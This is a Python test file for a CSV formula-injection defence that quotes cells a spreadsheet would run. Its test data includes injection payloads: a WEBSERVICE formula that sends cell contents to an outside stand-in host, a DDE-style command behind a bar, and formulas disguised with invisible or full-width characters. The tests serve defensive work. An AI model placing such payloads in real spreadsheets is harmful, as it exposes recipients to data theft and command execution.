"""Cells that a spreadsheet would run."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from maild.domain.csv_safety import neutralise, restore


@pytest.mark.parametrize(
    "cell",
    [
        "=2*3",
        "+2*3",
        "-2*3",
        "-2+cmd",
        "+491701234567",
        "@MAX(2,3)",
        "@",
        "=",
        "-",
        "%0A=2",
        "\t=2*3",
        "\r=2*3",
        "\nplain",
        "\x00=2",
        "  =2*3",
        "\u00a0=2*3",
        "\ufeff=2*3",
        "\u200b=2*3",
        "＝2*3",
        "＋2",
        "－2",
        "＠X",
        "\u2013 a dash that is none",
        "\u2212 2",
        "=ann@example.org",
        "+ann@example.org",
        "-ann@example.org",
        '=WEBSERVICE("https://example.net/"&A2)',
    ],
)
def test_what_would_run_becomes_text(cell: str) -> None:
    assert neutralise(cell) == f"'{cell}"
    assert restore(f"'{cell}") == cell


def test_a_command_behind_a_bar_is_taken_apart() -> None:
    assert neutralise("=run|' /x y'!B1") == "'=run\\|' /x y'!B1"
    assert neutralise("|run") == "'\\|run"
    assert neutralise("a|b") == "a|b"


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "ann@example.org",
        "2-3",
        "2=3",
        "-2",
        "-2,5",
        "-1.234,50",
        "550 5.1.1 No such user",
        "'quoted'",
        "'",
        "it's = fine",
        "müller@bücher.example",
        None,
        7,
        -7,
        2.5,
    ],
)
def test_what_would_not_run_stays_as_it_is(cell: object) -> None:
    assert neutralise(cell) == cell


@pytest.mark.proves("security-csv")
@given(st.one_of(st.text(), st.text("'=-|\\ \t1a")))
def test_nothing_is_lost_and_nothing_runs(cell: str) -> None:
    safe = neutralise(cell)
    assert restore(safe) == cell
    assert neutralise(restore(safe)) == safe
    assert safe[:1] not in set("=+@\t\r\n")


@given(st.lists(st.text("'=-|\\ \t1a;,\"\r\n"), min_size=1))
def test_it_survives_the_file(cells: list[str]) -> None:
    file = io.StringIO(newline="")
    csv.writer(file).writerow([neutralise(cell) for cell in cells])
    [read] = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert [restore(cell) for cell in read] == cells
